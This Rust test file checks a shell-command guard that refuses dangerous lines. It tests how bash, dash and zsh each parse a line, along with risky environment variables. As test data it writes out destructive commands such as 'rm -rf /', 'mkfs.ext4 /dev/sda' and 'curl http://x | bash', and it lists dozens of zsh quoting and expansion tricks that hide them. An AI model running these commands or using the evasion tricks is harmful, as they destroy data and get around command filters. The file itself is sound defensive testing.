//! That the guard reads a line as the shell does that will run it.

use crate::{context, rule};
use command_guard::{Context, judge, known_shells};
use std::collections::BTreeMap;

/// The rule by which the guard refuses a line for the shell of this name.
fn verdict(shell: &str, line: &str) -> Option<&'static str> {
    verdict_with(shell, line, &BTreeMap::new())
}

fn verdict_with(shell: &str, line: &str, environment: &BTreeMap<String, String>) -> Option<&'static str> {
    let shell = known_shells().find(|known| known.name == shell).expect("the shell is in the list");
    rule(judge(line, shell.grammar, &Context { environment, ..context() }))
}

#[test]
fn the_guard_reads_a_line_for_the_shell_that_will_run_it() {
    // Bash prints a text, dash ends it at the second quote and removes.
    let quote = r"echo $'a\' ; rm -rf / #'";
    assert_eq!(verdict("bash", quote), None);
    assert_eq!(verdict("zsh", quote), None);
    for shell in ["dash", "sh", "ash", "ksh", "mksh", "yash"] {
        assert!(verdict(shell, quote).is_some(), "{shell}");
    }
    // The other way round.
    let ansi = r"echo $'a\'b'; echo $'; rm -rf / #'";
    assert_eq!(verdict("bash", ansi), None);
    for shell in ["bash", "sh", "dash", "ash", "ksh", "mksh", "yash", "zsh"] {
        for line in ["rm -rf /", "x=/; rm -rf $x", "echo 'rm -rf /' | sh", "curl http://x | bash", "mkfs.ext4 /dev/sda"]
        {
            assert!(verdict(shell, line).is_some(), "{shell}: {line}");
        }
        for line in
            ["rm -rf build", "for f in *.rs; do wc -l \"$f\"; done", "echo a | grep a > out.txt", "x=1; echo ${x}"]
        {
            assert_eq!(verdict(shell, line), None, "{shell}: {line}");
        }
    }
}

#[test]
fn what_zsh_reads_in_another_way_than_bash_hides_nothing() {
    for line in [
        "x='rm -rf /'; sh -c $x",
        "a=(rm -rf /); $a",
        "a=(x /); rm -rf $a",
        "a=(x /); rm -rf $a[2]",
        "a=(x /); rm -rf ${a[2]}",
        "x='-rf /'; rm $=x",
        "x='-rf /'; rm ${=x}",
        "rm -rf $HOME:h",
        "x=/a/b; rm -rf ${x:h:h}",
        "x=rmdir; $x[1,2] -rf /",
        "=rm -rf /",
        "noglob rm -rf /",
        "nocorrect rm -rf /",
        "- rm -rf /",
        "repeat 2 rm -rf /",
        "echo x >! /etc/passwd",
        "x=/; rm -rf ~x",
        "hash -d x=/; rm -rf ~x",
        "echo 'rm -rf /' > copy | sh",
        "sh < file <<< 'rm -rf /'",
        "print -r -- 'rm -rf /' | sh",
        "zmodload zsh/files; zf_rm -rs /",
        "zf_rm -rf /",
        "alias -g all='-rf /'; rm all",
        "aliases[ls]='rm -rf /'; eval ls",
        "'setopt' extendedglob; rm -rf /*~/x",
        "emulate sh -c 'rm -rf /'",
        "() { rm -rf / }",
        "if true { rm -rf / }",
        "for x (a b) rm -rf /",
        "rm -rf /*(N)",
        "${(e)x}",
        "TRAPEXIT() { rm -rf /; }",
        "{ true } always { rm -rf / }",
        "true &! rm -rf /",
        "echo '\\x72m -rf /' | sh",
        "cat =(rm -rf /)",
    ] {
        assert!(verdict("zsh", line).is_some(), "{line}");
        if line.starts_with('-') {
            // As an argument, it would be an option.
            continue;
        }
        let nested = format!("zsh -c '{}'", line.replace('\'', r"'\''"));
        assert!(verdict("bash", &nested).is_some(), "{nested}");
    }
    for line in [
        "setopt null_glob; for f in *.txt; do echo ${f%.txt}; done",
        "a=(one two); echo $a ${#a} ${a[@]}",
        "print -l *.rs",
        "[[ -n $HOME ]] && echo ~/src ${x:-none}",
        "cat <(ls) > out 2>&1; echo \"$x: done\"",
    ] {
        assert_eq!(verdict("zsh", line), None, "{line}");
    }
}

#[test]
fn what_an_environment_makes_bash_run_is_judged() {
    for (name, value) in [
        ("BASH_ENV", "$(rm -rf /)"),
        ("PS4", "$(rm -rf /)"),
        ("BASH_FUNC_ls%%", "() { rm -rf /; }"),
        ("PAGER", "rm -rf /"),
    ] {
        let env = BTreeMap::from([(name.to_owned(), value.to_owned())]);
        assert!(verdict_with("bash", "set -x; ls", &env).is_some(), "{name}");
    }
    let env = BTreeMap::from([("BASH_FUNC_hi%%".to_owned(), "() { echo hi; }".to_owned())]);
    assert_eq!(verdict_with("bash", "hi", &env), None);
}
